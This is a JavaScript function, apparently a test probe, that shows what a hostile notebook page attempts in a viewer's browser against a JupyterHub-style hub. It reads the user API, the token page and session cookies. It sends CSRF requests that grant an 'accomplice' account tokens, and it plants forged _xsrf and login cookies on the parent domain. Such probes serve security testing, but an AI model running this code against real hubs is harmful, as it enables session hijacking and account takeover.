// What a hostile notebook's page tries in the browser of whoever opens it: to read and to use their session at the hub.
// It returns what it got hold of, by what it tried; an attempt that fails gives nothing.
async ({ hub, platform, accomplice }) => {
  const got = {};
  const attempt = async (name, action) => {
    try {
      const result = await action();
      if (result) got[name] = String(result).slice(0, 300);
    } catch (error) {
      // The browser refuses.
    }
  };
  // It says nothing that the browser lets the request out: whether the hub did it, `accomplice` shows.
  const send = (url, options) => fetch(url, options).catch(() => null);
  const credentials = "include";

  await attempt("who they are at the hub", async () => (await fetch(`${hub}/hub/api/user`, { credentials })).text());
  await attempt("a page of the hub", async () => (await fetch(`${hub}/hub/token`, { credentials })).text());
  await attempt("the hub's cookies", async () =>
    document.cookie.split("; ").filter((one) => /hub-login|session-id/.test(one)).join("; "));

  // Requests whose answer the page can't read.
  const simple = { method: "POST", mode: "no-cors", credentials, headers: { "Content-Type": "text/plain" } };
  await send(`${hub}/hub/api/users/${accomplice}`, simple);
  await send(`${hub}/hub/api/users/${accomplice}/tokens`, { ...simple, body: "{}" });

  // Cookies for the hub's host, so that the hub takes the next form for its own page's.
  for (const path of ["/", "/jupyter/hub/"]) {
    document.cookie = `_xsrf=planted; Domain=${platform}; Path=${path}; Secure`;
    document.cookie = `jupyterhub-hub-login=planted; Domain=${platform}; Path=${path}; Secure`;
  }
  await send(`${hub}/hub/api/users/${accomplice}?_xsrf=planted`, simple);
  return got;
}
